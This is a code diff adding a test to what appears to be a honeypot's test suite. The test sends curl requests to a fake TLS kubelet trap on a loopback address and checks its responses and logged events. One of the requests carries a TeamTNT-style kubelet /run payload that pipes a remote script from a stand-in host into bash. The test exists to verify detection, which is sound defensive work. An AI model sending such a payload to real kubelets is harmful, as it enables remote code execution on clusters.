@@ -8,6 +8,7 @@ CVE and download URLs checked in the events.
 """
 import glob
 import hashlib
+import json
 import http.client
 import os
 import random
@@ -373,6 +374,43 @@ def http_docker_api_real_client(ctx):
     logged = {x["url"] for x in evs if x["eventid"].startswith("session.file_download")}
     assert url1 in logged and url2 in logged, logged
     ctx.note("docker SDK %s: %d requests, kernel %s" % (docker.__version__, len(reqs), ver["KernelVersion"]))
+
+
+@case
+def http_kubelet_api_over_tls(ctx):
+    """curl -k against a trap on 10250, as TeamTNT scripts do: the trap terminates TLS, /pods lists
+    one pod on the SSH shell's host, /run/NS/POD/CONTAINER answers 200 with no output, anything else
+    the kubelet's plain 404.  The run request is classified rce, its cmd goes to the shell parser
+    and its URL is logged; nothing runs."""
+    need("curl")
+    ip = "127.%d.%d.%d" % (random.randint(1, 250), random.randint(1, 250), random.randint(2, 250))
+    d = ctx.daemon("kubelet", [Service("trap", bind=ip, tcp_ports=[10250], flush_after="300ms")]).start()
+    base = "https://%s:10250" % ip
+
+    def curl(*args):
+        r = subprocess.run(["curl", "-sk", "-m", str(int(T(10))), "-w", "\n%{http_code}"] + list(args),
+                           capture_output=True, timeout=T(20))
+        body, _, code = r.stdout.decode("utf-8", "replace").rpartition("\n")
+        return int(code or 0), body
+
+    code, body = curl(base + "/pods")
+    pods = json.loads(body)
+    assert code == 200 and pods["kind"] == "PodList" and pods["items"], (code, body)
+    assert pods["items"][0]["spec"]["nodeName"] == identity(d, "hostname"), pods
+    url = "http://192.0.2.84/k8s.sh"
+    code, body = curl("-X", "POST", base + "/run/default/%s/nginx" % pods["items"][0]["metadata"]["name"],
+                      "--data-urlencode", "cmd=sh -c \"curl -s %s | bash\"" % url)
+    assert code == 200 and body == "", (code, body)
+    code, body = curl(base + "/configz")
+    assert code == 404 and body.strip() == "404 page not found", (code, body)
+    wait_for(lambda: len(requests_of(d.events())) >= 3, T(20), what="three requests")
+    time.sleep(0.5)
+    evs = stop_and_read(d)
+    assert len([e for e in evs if e["eventid"] == "tls.client_hello"]) == 3, [e["eventid"] for e in evs]
+    run = [e for e in requests_of(evs) if e["uri"].startswith("/run/")]
+    assert run and run[0]["tls"] is True and "rce" in run[0]["attack_classes"], run
+    assert run[0]["rule"] == "kubelet-run" and ["curl", "-s", url] in run[0]["injected"], run[0]
+    assert url in {e["url"] for e in evs if e["eventid"].startswith("session.file_download")}
 
 
 # ---- TLS ------------------------------------------------------------------------------------------
